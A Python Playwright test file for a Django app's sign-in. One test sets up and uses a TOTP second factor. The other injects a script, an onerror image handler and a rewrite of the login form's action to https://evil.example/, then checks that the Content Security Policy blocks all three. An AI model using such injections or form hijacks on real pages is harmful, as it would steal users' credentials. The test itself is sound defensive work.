"""Signing in with a second factor through the real pages, which must run under their own content policy."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from django_otp.oath import totp
from playwright.sync_api import Browser, Page, expect

from kalshi.tests.browser.conftest import Watched
from kalshi.tests.servers import Gateway

NAME, PASSWORD = "cleo", "a long password for browsers"
MAKE = f"""
from django.contrib.auth import get_user_model
from kalshi.models import Account, Grant
person = get_user_model().objects.create_user({NAME!r}, password={PASSWORD!r})
Grant.objects.create(user=person, account=Account.objects.get(from_environment=True))
"""


@pytest.fixture(scope="module")
def person(gateway: Gateway) -> str:
    gateway.manage("shell", "-c", MAKE)
    return NAME


@pytest.fixture
def visitor(browser: Browser, gateway: Gateway) -> Iterator[Watched]:
    context = browser.new_context()
    watched = Watched(context.new_page(), urlsplit(gateway.base_url).netloc)
    watched.page.goto(f"{gateway.base_url}/sign-in/")
    yield watched
    context.close()
    watched.check()


def give_password(page: Page, name: str) -> None:
    page.get_by_label("User name").fill(name)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()


def test_a_second_factor_is_set_up_and_asked_for(visitor: Watched, gateway: Gateway, person: str) -> None:
    page = visitor.page
    give_password(page, person)
    page.get_by_role("link", name=person).click()
    page.get_by_role("link", name="Set one up").click()
    expect(page.get_by_role("img", name="QR code")).to_be_visible()
    box = page.locator(".qr path").last.bounding_box()
    assert box is not None and box["width"] > 150
    key = base64.b32decode(page.locator("pre code").inner_text().replace(" ", ""))
    page.get_by_label("Code", exact=True).fill(f"{totp(key):06d}")
    page.get_by_label("Your password").fill(PASSWORD)
    page.get_by_role("button", name="Turn it on").click()
    expect(page.get_by_role("heading", name="The second factor is on")).to_be_visible()
    codes = page.locator(".codes code").all_inner_texts()
    assert len(codes) == 10

    page.get_by_role("link", name="I have them").click()
    page.get_by_role("button", name="Sign out everywhere").click()
    give_password(page, person)
    expect(page.get_by_role("heading", name="One more step")).to_be_visible()
    page.goto(f"{gateway.base_url}/")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()

    page.goto(f"{gateway.base_url}/sign-in/code/")
    page.get_by_label("Code").fill(codes[0])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{gateway.base_url}/")
    expect(page.get_by_role("link", name=person)).to_be_visible()
    expect(page.locator('[data-figure="cash"]')).to_contain_text("$")


def test_a_script_that_gets_into_the_page_does_not_run(visitor: Watched) -> None:
    visitor.expected = ("Content Security Policy", "Content-Security-Policy", "404")
    page = visitor.page
    with page.expect_console_message(lambda said: "event handler" in said.text):
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.wasRun = true";
                document.body.append(script);
                document.body.insertAdjacentHTML("beforeend", "<img src=/nothing.png onerror='window.wasRun = true'>");
                document.querySelector("form").action = "https://evil.example/";
            }"""
        )
    page.get_by_label("User name").fill("x")
    page.get_by_label("Password", exact=True).fill("x")
    # Nothing here may wait for the end of the navigation: it is refused, which Chromium does not always report.
    with page.expect_console_message(lambda said: "form-action" in said.text or "form data" in said.text):
        page.get_by_role("button", name="Sign in").click(no_wait_after=True)
    assert page.evaluate("[window.wasRun, location.pathname]") == [None, "/sign-in/"]
    assert any("script" in line and "Policy" in line for line in visitor.console), visitor.console
